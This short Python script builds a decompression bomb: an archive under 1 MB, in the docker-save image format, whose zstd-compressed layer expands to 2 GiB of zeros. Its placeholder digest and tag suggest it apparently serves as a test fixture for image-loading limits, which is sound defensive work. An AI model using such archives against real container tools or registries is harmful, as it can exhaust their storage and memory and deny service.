"""bomb.py FILE: an archive of less than 1 MB with one layer, of a file of 2 GiB."""
import io
import json
import subprocess
import sys
import tarfile
import threading

header = tarfile.TarInfo("zeros")
header.size = 2 << 30
packer = subprocess.Popen(["zstd", "-q", "-c"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)


def feed():
    packer.stdin.write(header.tobuf())
    for _ in range(2048):
        packer.stdin.write(bytes(1 << 20))
    packer.stdin.close()


threading.Thread(target=feed).start()
config = {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": ["sha256:" + 64 * "0"]}}
manifest = [{"Config": "config.json", "RepoTags": ["a:b"], "Layers": ["layer.tar"]}]
with tarfile.open(sys.argv[1], "w") as archive:
    for name, data in (("layer.tar", packer.stdout.read()), ("config.json", json.dumps(config).encode()),
                       ("manifest.json", json.dumps(manifest).encode())):
        member = tarfile.TarInfo(name)
        member.size = len(data)
        archive.addfile(member, io.BytesIO(data))
